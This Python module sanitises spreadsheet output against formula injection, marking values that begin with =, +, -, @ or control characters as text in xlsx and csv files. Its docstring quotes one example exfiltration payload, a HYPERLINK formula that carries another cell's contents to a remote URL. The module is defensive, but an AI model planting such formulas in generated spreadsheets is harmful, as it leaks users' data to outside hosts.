"""Spreadsheet cells as text, never formulas (OWASP: CSV / formula injection).

A value typed by a user (a window name, a remark) that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return would be a live formula in Excel or WPS: ``=HYPERLINK("http://…"&C5,"详情")`` carries
another cell's content away. Every xlsx and csv the app writes passes its values through here.
"""
from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def put_text(ws, row: int, column: int, value):
    """Write ``value`` into an openpyxl cell; a string is always a string cell (with Excel's quote prefix
    when it looks like a formula, so editing the cell keeps it text). Returns the cell."""
    cell = ws.cell(row, column)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl makes any "=…" string a formula cell
        if looks_like_formula(value):
            cell.quotePrefix = True
    return cell


def csv_text(value):
    """A value for a CSV cell: text that a spreadsheet would read as a formula gets a leading apostrophe."""
    if looks_like_formula(value):
        return "'" + value
    return value
